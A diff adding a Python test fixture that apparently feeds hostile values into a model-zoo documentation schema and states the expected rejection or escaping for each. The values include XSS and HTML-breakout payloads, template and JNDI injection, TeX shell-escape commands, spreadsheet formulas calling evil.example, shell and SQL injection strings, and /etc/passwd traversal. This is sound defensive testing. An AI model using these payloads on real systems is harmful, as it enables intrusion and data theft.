@@ -1,0 +1,279 @@
+r"""Hostile values by kind, and what must come of each in the fields that can be given it.
+
+Every value is a text. As a name (a *string*) and as prose (a *text*) it is shown as it is, or
+refused with the code of the problem; what Markdown makes of it is in ``prose``. As an address it is
+a link or refused. Fields of other kinds (ids, dates, counts, …) refuse all that is not one.
+"""
+
+from __future__ import annotations
+
+import re
+from typing import TYPE_CHECKING, Any, NamedTuple
+
+from sphinx_modelzoo.schema.model import Model
+from sphinx_modelzoo.schema.shape import Field, shape_of, short_form
+from sphinx_modelzoo.yamltext.parsing import MAX_TEXT
+from tests.support.hostile import Place, places
+
+if TYPE_CHECKING:
+    from collections.abc import Iterator, Mapping
+
+EVIL = "https://evil.example/"
+"""Where nothing may lead to, and from where nothing may be fetched."""
+SHOWN, VALID = "shown", "valid"
+
+
+class Value(NamedTuple):
+    """A hostile text, and what comes of it by the kind of the field: shown, or a code."""
+
+    text: str
+    group: str
+    string: str = SHOWN
+    prose: str = ""  # the words that Markdown leaves, if not all of them
+    link: str = "link.malformed"
+
+    @property
+    def as_name(self) -> str:
+        """The words of a name: on one line."""
+        return " ".join(self.text.split())
+
+    @property
+    def as_prose(self) -> str:
+        """The words of a text that is shown."""
+        return self.prose or self.as_name
+
+
+_HTML = (
+    "<script>evil()</script>", "<ScRiPt>evil()</sCrIpT>", "<script src={e}x.js></script>",
+    "<script>evil()//", "<script/x>evil()</script>", "<<script>evil()</script>",
+    "<img src=x onerror=evil()>", "<img src={e}x.png>", "<img srcset='{e}x.png 1x'>",
+    "<svg onload=evil()>", "<svg><script>evil()</script></svg>",
+    "<svg><use href='{e}x.svg#a'/></svg>", "<svg><a xlink:href='javascript:evil()'>x</a></svg>",
+    "<math><mtext><script>evil()</script></mtext></math>", "<iframe src={e}></iframe>",
+    "<iframe srcdoc='<script>evil()</script>'></iframe>", "<object data={e}></object>",
+    "<embed src={e}>", "<base href={e}>", "<link rel=stylesheet href={e}x.css>",
+    "<meta http-equiv=refresh content='0;url={e}'>", "<style>@import '{e}x.css';</style>",
+    "<style>body{display:none}</style>", "<body onload=evil()>", "<video src={e}x.mp4 autoplay>",
+    "<audio src={e}x.mp3 onerror=evil()>", "<details open ontoggle=evil()>",
+    "<input autofocus onfocus=evil()>", "<form action={e}><button>x</button></form>",
+    "<a href={e}>x</a>", "<a href=javascript:evil()>x</a>", "<b style='position:fixed'>x</b>",
+    "<template><img src=x onerror=evil()></template>", "<noscript><img src={e}></noscript>",
+    "<marquee onstart=evil()>x</marquee>", "<table background={e}x.png>", "<plaintext>", "<xmp>",
+    "<textarea>", "<title>", "<select><option>", "<frameset onload=evil()>", "<isindex>",
+    "<x contenteditable onblur=evil()>", "<div id=search class=modelzoo>", "<!DOCTYPE html>",
+    "<?xml version=1.0?>", "<![CDATA[<script>evil()</script>]]>", "<!--[if IE]>x<![endif]-->",
+)  # fmt: skip
+_BREAKOUTS = (
+    '"><script>evil()</script>', "'><script>evil()</script>", "`><img src=x onerror=evil()>",
+    '" onmouseover="evil()', "' onmouseover='evil()", '" style="position:fixed;inset:0" x="',
+    "</script><script>evil()</script>", "</title><script>evil()</script>",
+    "</textarea><img src=x onerror=evil()>", "</style><script>evil()</script>",
+    "</a></p></div></body></html><script>evil()</script>", "</td></tr></table><h1>x</h1>",
+    "</noscript><script>evil()</script>", "--><script>evil()</script>",
+    "]]><script>evil()</script>", '");evil();//', "');evil();//", "*/evil();/*",
+    '"}];evil();//', "${evil()}", "`;evil();`", '"}}</script><script>evil()</script>',
+    "</template><script>evil()</script>", "</svg><script>evil()</script>",
+    "</select><script>evil()</script>", "&quot;&gt;&lt;script&gt;evil()",
+    "&#60;script&#62;evil()", "&lt;script&gt;evil()&lt;/script&gt;",
+)  # fmt: skip
+_TEMPLATES = (
+    "{{ 7*7 }}", "{% raw %}{{ config }}", "{{ self._TemplateReference__context }}",
+    "{{ ''.__class__.__mro__ }}", "{# comment #}", "{{constructor.constructor('evil()')()}}",
+    "#{evil()}", "<%= evil() %>", "<?php evil() ?>", "@{evil()}", "{0.__class__}", "%(name)s",
+    "%s %d %n %x", "{} {0} {name}", "${jndi:ldap://evil.example/a}", "{@evil}", "[% evil %]",
+    "{{> partial }}", "{% include '/etc/passwd' %}", "__MODELZOO__", "{placeholder:x}",
+)  # fmt: skip
+_TEX = (
+    r"\input{/etc/passwd}", r"\include{secret}", r"\openin5=secret", r"\write18{touch broken}",
+    r"\immediate\write18{touch broken}", r"\openout5=broken.txt", r"\def\x{\x}\x",
+    r"\csname evil\endcsname", r"\catcode`\%=12", r"\loop\iftrue\repeat", r"\end{document}",
+    r"\begin{verbatim}", r"\verb|x", r"\href{{e}}{x}", r"\url{{e}}", r"\special{evil}",
+    r"\usepackage{shellesc}", r"\ShellEscape{touch broken}", r"\directlua{os.exit()}",
+    r"\includegraphics{secret}", r"\label{a}\ref{a}", r"\newcommand{\a}{b}", r"\else\fi",
+    r"\iffalse", "^^5cinput{secret}", "^^M^^@", r"\char`\\", r"\makeatletter\@@input secret ",
+    r"\hbox to \maxdimen{}", r"\kern\maxdimen", r"\\[99cm]", "~&%#_^$", "#1 #2 ##3", "a & b \\\\ c",
+    r"\unicode{x202e}", r"\require{html}\class{a}{b}", r"\(\href{javascript:evil()}{x}\)",
+    r"\[\style{position:fixed}{x}\]", r"\begin{equation}\href{{e}}{x}\end{equation}",
+    r"\cssId{search}{x}", r"\mmlToken{mi}[href='{e}']{x}", r"\data{a}", r"\texttip{a}{b}",
+)  # fmt: skip
+_REST = (
+    ".. include:: /etc/passwd", ".. raw:: html", ".. csv-table::", ".. literalinclude:: conf.py",
+    ".. image:: {e}x.png", ".. only:: html", ".. toctree::", ".. eval:: evil()",
+    ".. |x| replace:: y",
+    ".. _target: {e}", ".. role:: raw(raw)", ":raw:`x`", ":doc:`index`", ":ref:`search`",
+    ":download:`conf.py`", ":math:`x`", ":py:func:`open`", "{eval-rst}", "{include} conf.py",
+    "{doc}`index`", "{raw}`<b>`", "|x|", "x_", "`x`_", "`x <{e}>`_", "`x <javascript:evil()>`_",
+    "__ {e}", "[1]_", "[#]_", "\\ x", "!!! danger", "??? note", "=== \"tab\"",
+    "{: onclick=evil() }",
+    "{: #search .modelzoo }", "--8<-- \"conf.py\"", "{++evil++}", "{~~a~>b~~}", "[[wiki]]",
+    ":smile:", "==x==", "^x^", "(c) (tm) --> <--", "@evil", "MDX <Evil/>", "<Evil {...x} />",
+    "import evil from 'x'", "+++", "%% comment", "% comment", "(target)=", "[TOC]", "[toc]: x",
+    "*[HTML]: evil", "Term :", "$ pip install evil", ">>> evil()",
+)  # fmt: skip
+# What Markdown reads differently: its words.
+_MARKDOWN: Mapping[str, str] = {
+    "[x](javascript:evil())": "[x](javascript:evil())",
+    "[x](JaVaScRiPt:evil())": "[x](JaVaScRiPt:evil())",
+    "[x](&#106;avascript:evil())": "[x](javascript:evil())",
+    "[x](vbscript:evil())": "[x](vbscript:evil())",
+    "[x](data:text/html,evil)": "[x](data:text/html,evil)",
+    "[x](file:///etc/passwd)": "[x](file:///etc/passwd)",
+    "[x](//evil.example/)": "[x](//evil.example/)",
+    "<javascript:evil()>": "<javascript:evil()>",
+    "**x**": "x",
+    "_x_ y": "x y",
+    "`<script>evil()</script>`": "<script>evil()</script>",
+    "~~x~~": "~~x~~",
+    "&amp;&lt;b&gt;": "&<b>",
+    "a\\<script\\>": "a<script>",
+    "![x](javascript:evil())": "![x](javascript:evil())",
+}
+_SHEETS = (
+    "=cmd|' /C calc'!A0", "=HYPERLINK(\"{e}\";\"x\")", "=IMPORTXML(\"{e}\";\"//a\")",
+    "=WEBSERVICE(\"{e}\")", "@SUM(1+9)*cmd|' /C calc'!A0", "=1+1", "=DDE(\"cmd\";\"x\")",
+    "\uff1d1+1", "\uff0b1+1", "\uff0d1", "\uff20SUM(1)", "=A1,=B1", "\"=1+1\"", ";=1+1", "'=1+1",
+)  # fmt: skip
+_SHELL = (
+    "$(touch broken)", "`touch broken` x", "; touch broken", "| touch broken", "&& touch broken",
+    "> broken", "$IFS$9", "${PATH}", "%PATH%", "!!", "~root", "' OR 1=1 --", "'; DROP TABLE x;--",
+    "() { :;}; touch broken", "../../../../etc/passwd x", "..\\..\\windows", "C:\\x",
+    "\\\\evil\\x y",
+    "file:///etc/passwd x", "/dev/zero x", "(?:a+)+$", "^(a|a)*$", "a{99999}",
+)  # fmt: skip
+_NAMES = (
+    "__proto__", "constructor", "prototype", "hasOwnProperty", "toString", "valueOf", "then",
+    "length", "null", "undefined", "NaN", "true", "None", "con", "nul", "aux", "com1", "index",
+    "search", "genindex", "datasets", "models", "objects.inv", "_static", ".git", "...", "@",
+    "default", "id", "name", "class", "self", "extra", "modelzoo", "all", "no", "404",
+)  # fmt: skip
+_UNICODE = (
+    "e\u0301\u0301\u0301\u0301 x", "\u0430\u0440\u0440\u04cf\u0435", "a\u200bb", "a\u200db",
+    "\ufeffa", "a\u00adb", "\u0627\u0644\u0639\u0631", "\u05d0\u05d1 a",
+    "\U0001f600\u200d\U0001f4a9",
+    "\U000e0041\U000e0042", "\u1e9e\u0131\u0130", "\ufb01\ufb02", "\u2126\u212b",
+    "\uff1cscript\uff1e",
+    "\u2039script\u203a", "\u02bcx\u02bc", "\uff5b\uff5b7*7\uff5d\uff5d", "\u3164", "\u115f",
+    "\u17b4", "a\ufe0f", "\U0001f1e8\U0001f1f3", "\u0e01\u0e33" * 9, "\ufdfa", "\U00020000",
+)  # fmt: skip
+_REVERSED = ("a\u202eb", "\u2066a\u2069", "\u202dx\u202c", "a\u200fb")
+_CONTROLS = (
+    "a\0b", "\0", "a\x01b", "a\x07b", "a\x08b", "a\x0bb", "a\x0cb", "a\x1b[31mb", "a\x1b]0;x\x07b",
+    "a\x7fb", "a\x80b", "a\x85b", "a\x9b0mb", "a\ufdd0b", "a\ufffeb", "a\uffffb", "a\U0001fffeb",
+    "a\U0010ffffb", "a\x1fb", "a\x1db",
+)  # fmt: skip
+_BLANK = ("", " ", "\t", "\n", "\u3000", "\u2003 \u00a0")
+_SCHEMES = (
+    "javascript:evil()", "JaVaScRiPt:evil()", "javascript://evil.example/%0aevil()",
+    "vbscript:evil", "data:text/html,evil", "data:image/svg+xml,evil", "file:///etc/passwd",
+    "blob:x", "ftp://evil.example/", "ws://evil.example/", "about:blank", "view-source:x",
+    "chrome://x", "jar:x", "intent:x", "tel:1", "sms:1", "ssh://evil.example", "git://evil.example",
+    "feed:javascript:x", "ms-word:x", "steam:x", "ldap://evil.example", "php://input", "urn:x",
+    "magnet:x", "mailtox:a", "httpsx://evil.example", "h-t+t.p:x", "moz-extension://x",
+)  # fmt: skip
+_HOSTS = (
+    "//evil.example/", "///evil.example", "https:evil.example", "https:/evil.example", "https://",
+    "http://[", "http://[::1", "http://[bad]/", "https://a b/", "https://evil.example:99999/",
+    "https://evil.example:-1/", "https://a..b/", "https://" + "a" * 64 + ".org/",
+    "https://x\"onclick=evil()", "https://<script>", "https://`evil`", "https://{x}/",
+    "https://a|b/", "https://a^b/", "\\\\evil.example\\x", "http\uff1a//evil.example",
+    "git@evil.example:a/b", "[x](https://evil.example)", "https://.", "https://%/", "doc:../../x",
+    "doc:", "model:A B", "model:../x", "leaderboard:", "doc:/etc/passwd", "model:<x>",
+)  # fmt: skip
+
+
+def _values() -> Iterator[Value]:
+    filled = {
+        "html": _HTML, "breakout": _BREAKOUTS, "template": _TEMPLATES, "tex": _TEX, "rest": _REST,
+        "sheet": _SHEETS, "shell": _SHELL,
+    }  # fmt: skip
+    number = 0
+    for group, texts in filled.items():
+        for text in texts:
+            # A mark makes each of them something that can be found and counted.
+            words = text.replace("{e}", EVIL)
+            yield Value(f"{words} q{number}q", group)
+            number += 1
+    for text, prose in _MARKDOWN.items():
+        yield Value(f"{text} q{number}q", "markdown", prose=f"{prose} q{number}q")
+        number += 1
+    for group, texts in {"unicode": _UNICODE, "reversed": _REVERSED}.items():
+        for text in texts:
+            yield Value(f"{text} q{number}q", group)
+            number += 1
+    for text in _NAMES:
+        yield Value(text, "name", link=SHOWN)  # a relative path
+    for text in _CONTROLS:
+        yield Value(text, "control", "text.control", link="text.control")
+    for text in _BLANK:
+        yield Value(text, "blank", "text.blank", link="text.blank")
+    for text in _SCHEMES:
+        yield Value(text, "scheme", link="link.scheme")
+    for text in _HOSTS:
+        yield Value(text, "host")
+    for text in ("a" * (MAX_TEXT + 1), "模" * (MAX_TEXT + 1)):
+        yield Value(text, "size", "yaml.text-size", link="yaml.text-size")
+
+
+VALUES = tuple(_values())
+
+
+def field_of(path: tuple[str | int, ...]) -> Field:
+    """The field of the schema at a path in an entry; of a short form, what it is short for."""
+    record: Any = Model
+    found: Field | None = None
+    for part in path:
+        if not isinstance(part, int) and part in shape_of(record):
+            found = shape_of(record)[part]
+            record = found.record or record
+    assert found is not None
+    short = short_form(found.record) if found.record else None
+    return shape_of(found.record)[short] if short else found
+
+
+_ID = re.compile(r"[a-z0-9]{1,64}|(?=.{1,64}\Z)[a-z0-9]+(?:-[a-z0-9]+)*")
+
+
+def outcome(place: Place, value: Value) -> str:
+    """What a value of a field must become: shown, the code of a problem, or any problem."""
+    field = field_of(place.path)
+    named = (place.kind == "map" and field.kind != "own") or field.words in (
+        "string",
+        "string or number",
+    )
+    if value.group in ("control", "blank", "size"):
+        return value.string if named or field.kind in ("text", "link") else ""
+    if field.name in ("task", "tasks"):
+        return "task.unknown"
+    if field.name == "deprecated" and value.text in ("true", "no"):
+        return "type"  # neither a reason nor, in quotes, a boolean
+    if field.words == "id or address" and not re.match("https?:", value.text):
+        return SHOWN if _ID.fullmatch(value.text) else "base-model.malformed"
+    if field.kind in ("link", "own"):
+        return value.link if field.kind == "link" else "own.undeclared"
+    if named or field.kind == "text":
+        return SHOWN
+    known = {"id": _ID, "language": _LANGUAGE, "count": _NUMBER, "file size": _NUMBER}
+    valid = known.get(field.words)
+    return VALID if valid is not None and valid.fullmatch(value.text) else ""
+
+
+_LANGUAGE = re.compile("con|nan|all", re.IGNORECASE)  # of the names: languages of this world
+_NUMBER = re.compile("[0-9]+")
+
+
+def attacks(stride: int) -> Iterator[tuple[Place, Value]]:
+    """Every field with a value of every group, and every value with a field of every kind.
+
+    :param stride: how many fields share the values of a group.
+    """
+    groups: dict[str, list[Value]] = {}
+    for value in VALUES:
+        groups.setdefault(value.group, []).append(value)
+    large = groups.pop("size")  # each is as long as all others: once in a field of a kind
+    left = {"string", "text", "address"}
+    for number, place in enumerate(places()):
+        for values in groups.values():
+            yield from ((place, one) for one in values[number % stride % len(values) :: stride])
+        kind = field_of(place.path).words
+        yield from ((place, one) for one in large if kind in left)
+        left.discard(kind)
